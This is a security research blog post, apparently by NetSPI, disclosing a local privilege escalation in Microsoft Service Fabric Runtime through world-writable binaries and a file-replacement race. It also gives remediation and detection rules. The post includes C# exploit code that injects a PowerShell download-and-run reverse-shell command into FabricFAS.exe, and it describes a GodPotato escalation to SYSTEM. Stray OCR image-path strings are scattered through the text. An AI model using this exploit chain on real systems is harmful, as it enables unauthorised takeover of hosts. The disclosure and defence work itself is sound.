During a recent red team operation, NetSPI discovered a local privilege escalation path in the default installation of Microsoft Service Fabric Runtime, a software commonly used for local application development. This vulnerability would allow a low privilege user, with a foothold on a host running the service fabric deployment, to elevate their privileges up to System.

For this attack to work, the cluster must be “unsecured”, which is the default option when configured using the “typical” installation options. Microsoft takes the approach that “An Azure Service Fabric cluster is a resource that you own. It is your responsibility to secure your clusters” but provided guidance on how to secure them here (https://learn.microsoft.com/en-us/azure/security/fundamentals/service-fabric-best-practices). This blog will cover how this path was discovered and how it could be exploited.

The research presented here was conducted on a newly provisioned Windows 11 VPS, hosted in Azure. The Service Fabric Runtime for Windows and Service Fabric SDK installers were downloaded from the official Microsoft source at https://learn.microsoft.com/en-us/azure/service-fabric/service-fabric-get-started.

The software versions used for this proof of concept were:

  • Service Fabric Runtime for Windows 10.1.1951.9590
  • Service Fabric SDK 7.1.1951

If you want to follow along at home, here are the steps taken to set up the environment used for this research.• Once installed, ServiceFabric allows low-privileged users to access the web interface
  • A folder permissions misconfiguration allowed any user to modify files used by Service Fabric
  • These files are started as NT Authority/Network Service
  • Service Fabric replaces these files with a known-good copy when a cluster node is restarted, we can exploit a form of “time of check, time of use” flaw to overwrite them
  • We can abuse this flaw to get a shell as NT Authority/Network Service, which provides a direct path to SYTEM via a “potato” attack

Environment Setup

A local admin account was used to perform the service fabric installation.

The SDK was installed using the “typical”configuration:

Once both components were installed, a new 5 node cluster was provisioned.

The cluster manager web interface can be used to confirm the setup was successful. This can be accessed on http://localhost:19080/

When the setup is complete, you should see a dashboard showing all the nodes are healthy.

A new, low privilege user was created and added to the RDP Users group (which is required to access the machine). This user was named “low”.

Finally, a tools folder was created, and some exclusions were set up in Windows Defender. This post is not an exercise in bypassing AV; we just want shells. These exclusions just allow us to drop some files to disk later, without worrying about making them AV safe. Defender did not detect or block this attack when left enabled.

With our lab VM set up, we can start our analysis of the Service Fabric installation.

Finding the vulnerability

You may have noticed the ‘SFDevCluster’ folder in the Defender exclusions above. This folder is created by Service Fabric when a new cluster is provisioned and contains various binaries which are used by the cluster nodes. Reviewing the permissions applied to this folder revealed the start of our exploit path.

Despite being installed in the root of C, all authenticated users have write access to this folder and its contents.

Let’s see what’srunning from this folder, using Process Hacker 2.

We have some binaries running from within a folder we have write access to, and they are running as NETWORK SERVICE. If we can modify one of those files, we should be able to elevate toNETWORK SERVICE and, from there, up to SYSTEM.

The obvious approach here is just to replace one of these binaries with our own file and wait for it to execute. Let’s try that, using calc.exe.

Here we’ve renamed the original binary to “FabricFAS_old” and copied calc.exe into the folder as FabricFAS.exe. Now we just need to execute it. Luckily for us, we can re-start nodes via the web interface, under the “actions” menu.

We can restart the node (note it must be the correct one), wait for the restart to complete and… nothing. No calc, no new process starting. Looking at the folder contents again reveals that our “malicious” file was removed and replaced with the legitimate binary.

Note the icon and file size have changed in the screenshot above. If you want to confirm this for yourself, you can use procmon from the sysinternals suite.

So that’s it, game over, right? Not quite. .NET exposes the FileSystemWatcher class (https://learn.microsoft.com/en-us/dotnet/api/system.io.filesystemwatcher), which lets us monitor for changes to files and folders programmatically.

Using the following code, we can monitor for changes to the file directly after FabricFAS.exe (the files are modified in alphabetical order).

using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
usingSystem.Text;
using System.Threading.Tasks;

namespace ConsoleApp1
    internal class Program

        static void Main(string[] args)
            using (var watcher = new FileSystemWatcher(@"C:\SFDevCluster\Data\_App\_Node_3\__FabricSystem_App4294967295\FAS.Code.Current"))
                //filter on Attribute changes as these only fire once watcher.NotifyFilter = NotifyFilters.Attributes;
                watcher.Changed += OnChanged;
                watcher.Error += OnError;
                //we filter on this, as its directly after the exe we are interested in
                watcher.Filter = "FabricFaultAnalysisService.dll";
                watcher.IncludeSubdirectories = false;
                watcher.EnableRaisingEvents = true;Console.WriteLine("Press enter to exit");

        private static void OnError(object sender, ErrorEventArgs e)
            Console.WriteLine(@"An error has occured");

        private static void OnChanged(object sender, FileSystemEventArgs e)
            if (e.ChangeType !=WatcherChangeTypes.Changed)
            Console.WriteLine(@"FabricFaultAnalysisService.dll has been modified");

Restarting the node should trigger our code.

Note that we get multiple hits; we can fix that later.

The above code will give us a window of opportunity to make changes to the binary between it being overwritten by the legitimate file and subsequently started again. Now we just need a payload. We could replace the file with calc.exe, or say, a custom binary containing a Cobalt Strike beacon, but we can do better than that. As Red Teamers, we want to remain undetected, breaking a node within a Service Fabric cluster will almost certainly cause error logs to be generated, which will get investigated, and probably get us kicked out of the environment. We want a payload which will run our code, and then start the node as normal. Enter Mono.Cecil (https://www.mono-project.com/docs/tools+libraries/libraries/Mono.Cecil/). This project will let us modify the existing binary, adding our own code to the main method, before writing it back to disk. The rest of the functionality will remain unchanged, so the node will start as normal. We just need to decide what to run.

Exploiting the vulnerability

For this blog, we’re going to go with a PowerShell reverse shell, for two reasons. First,  it’s fairly easy to set up, and more importantly, doesn’t give away too many secrets. If you’re going to use this, you almost certainly want to build a better payload. We will simply embed a PowerShell one-liner and execute it with Process.Start. A guide on how Mono.Cecil works is outside the scope ofthis post, but the code is shown below.

using Mono.Cecil;
using Mono.Cecil.Cil;
using System;
using System.Diagnostics;
using System.Globalization;
using System.IO;
using System.Linq;
using OpCodes = Mono.Cecil.Cil.OpCodes;

namespace ConsoleApp1
    internal class Program
        static void Main(string[] args)
            using (var watcher = new FileSystemWatcher(@"C:\SFDevCluster\Data\_App\_Node_0\__FabricSystem_App4294 967295\FAS.Code.Current"))
                //filter on Attribute changes as these only fire once
                watcher.NotifyFilter = NotifyFilters.Attributes;
                watcher.Changed += OnChanged; watcher.Error += OnError;
                //we filter on this, as its directly after the exe we are interested in
                watcher.Filter = "FabricFaultAnalysisService.dll"; watcher.IncludeSubdirectories = false; watcher.EnableRaisingEvents = true; Console.WriteLine("Press enter to exit"); Console.ReadLine();

        private static void OnError(object sender, ErrorEventArgs e) => PrintException(e.GetException());
        private static void PrintException(Exception ex)
            if (ex != null)
                Console.WriteLine($"Message: {ex.Message}"); Console.WriteLine("Stacktrace:"); Console.WriteLine(ex.StackTrace); Console.WriteLine(); PrintException(ex.InnerException);
        private static void OnChanged(object sender, FileSystemEventArgs e)
            string timestamp = DateTime.UtcNow.ToString("yyyy-MM-ddHH:mm:ss.rf",

            if (e.ChangeType != WatcherChangeTypes.Changed)
            //at this point, our target EXE has been overwritten, we have a small window to write it before its called again.

WritePayload(@"C:\SFDevCluster\Data\_App\_Node_0\__FabricSystem_App42949672 95\FAS.Code.Current\FabricFAS.exe");
        private static void WritePayload(string target)
            AssemblyDefinition asm = AssemblyDefinition.ReadAssembly(target, new ReaderParameters { ReadWrite = true, InMemory = true });
            //Creating the Process.Start() method and importing it into the target assembly
            var pStartMethod = typeof(Process).GetMethod("Start", new Type[] { typeof(string), typeof(string) });
            var pStartRef = asm.MainModule.Import(pStartMethod);
            var toInspect = asm.MainModule.GetTypes()
            .SelectMany(t => t.Methods.Where(m => m.HasBody).Select(m => new{ t, m }));
            toInspect = toInspect.Where(x => x.m.Name.Equals("Main"));
            foreach (var method in toInspect)
                method.m.Body.Instructions.Insert(0,Instruction.Create(OpCodes.Ldstr, @"powershell.exe"));
                //then the arguments
                method.m.Body.Instructions.Insert(1, Instruction.Create(OpCodes.Ldstr, @"iex (New-Object Net.WebClient).DownloadString(' PowerShellTcp.ps1');Invoke-PowerShellTcp -Reverse -IPAddress -Port 4444"));
                //We push the path of the executable you want to run to the stack

                //Adding the call to the Process.Start() method, It will read from the stack
                method.m.Body.Instructions.Insert(2, Instruction.Create(OpCodes.Call, pStartRef));
                //Removing the value from stack with pop
                method.m.Body.Instructions.Insert(3, Instruction.Create(OpCodes.Pop));
            asm.Write(target); asm.Dispose(); Console.WriteLine("Injected");

This code will need the Costura.Fody and Mono.Cecil Nuget packages to be installed, and you’ll want to update the IP addresses in the PowerShell command. In brief, this code will monitor for changes to the FabricFAS.exe binary, wait until it’s been updated, then write our malicious code into the start of the main method. When the node starts, this should kick off a reverse shell.

We’ll need a host to catch our shell from, and we’ll need to build this payload and get it onto the box as the low privilege user we created earlier. We’re going to take some liberties here and just copy the file to our toolsdirectory before we switch user. In the “real world”, we’d want to run this in process from our C2, but that’s just overcomplicating things.

With our code built and copied to the tools folder, we can log off our high privilege user, and RDP back as the “low” user we created earlier. This user is not a local admin. Note that we don’t have permission to start the service fabric cluster as the low privilege user, it must be running already.

We can also verify that we have access to the Service Fabric management interface, as this low privileged user.

Now, we can run the exploit code we created, which will wait for the node to restart. We can trigger that restart from the management interface.

After restarting the node, we see the exploit trigger.

Then, after a shortdelay while we wait for the node to restart, we see our payload being fetched from our server.

We also get our callback.

From this shell, running whoami /all will show that we are now running as NT Authority/NETWORK SERVICE

From here, we can elevate to SYSTEM via one of the potato attacks. Again, this was our simple proof of concept only, so we’re going to drop some binaries to disk.

We’ll use GodPotato to elevate to system.Running this from our shell shows we can run commands as SYSTEM.

We can do better than that, let’s get a basic shell:

Running “set” from this new shell, we can see our userprofile is in the system32 folder.

As we have access to the test box, we can cheat a little here and just look at the nc64 process.

And its permissions:

And that’s it, we’ve gone from a low privilege user to SYSTEM, by using service fabric to get us a shell as Network Service.

Remediation AdviceWhile Microsoft considers this expected behavior you can still take steps to prevent abuse. Removing Write/Modify permissions from the Authenticated Users group should be sufficient to prevent this attack, you will also need to grant modify/writepermissions to the NETWORK SERVICE account.

With these changes applied, our exploit code no longer works.

The cluster is still healthy.

Detection Opportunities

Detection Opportunity #1: Anomalous processes modifying Service Fabric binaries
Data Source: File Modification
Detection Strategy: Behavior
Detection Concept: Detect when a process overwrites or modifies any file within the c:\SFDevCluster folder, or its subfolders. The following processes are known to interact with files in this location legitimately – Fabric.exe, FabricHost.exe, svchost.exe, csrss.exe, MsMpEng.exe, Conhost.exe, FabricFAS.exe.
Detection Reasoning: No process, except for those associated with Service Fabric itself, or core OS functionality, should need to modify files in the c:\SFDevCluster folder. Other, unknown processes attempting to modify files in this location are likely to be malicious.

Detection Opportunity #2: Named Pipe Usage for GodPotatoe
Data Source: Named Pipe Creation, Named Pipe Connection
Detection Strategy: Behavior
Detection Concept: Detect on a process running as NT AUTHORITY\NETWORK SERVICE creating a named piped, followed by a process running as SYSTEM connecting to that same process.
Detection Reasoning: This behavior indicates privilege escalation via the GodPotato exploit. In this particular example the PipeName has a format of <GUID>\pipe\epmapper and the Process running as SYSTEM is the System Process (Process ID 4)

Hunting Opportunity #1: PowerShell.exe spawned by FabricFAS.exe Data Source: Process Relationship Detection Strategy: Behavior
Detection Concept:The specific exploit chain used in this post results in PowerShell.exe being spawned by FabricFAS.exe. Hunting for this activity may allow this exploit to be detected. This could be expanded to include hunting for other processes commonly used to execute code, such as (but not limited to) cmd.exe, rundll32.exe, mshta.exe and wscript.exe.
Reasoning: The PoC code presented here uses PowerShell, spawned by FabricFAS.exe. However, as PowerShell may be used legitimately by FabricFAS, NetSPI recommend using this for hunting rather than detection.

Disclosure Timeline

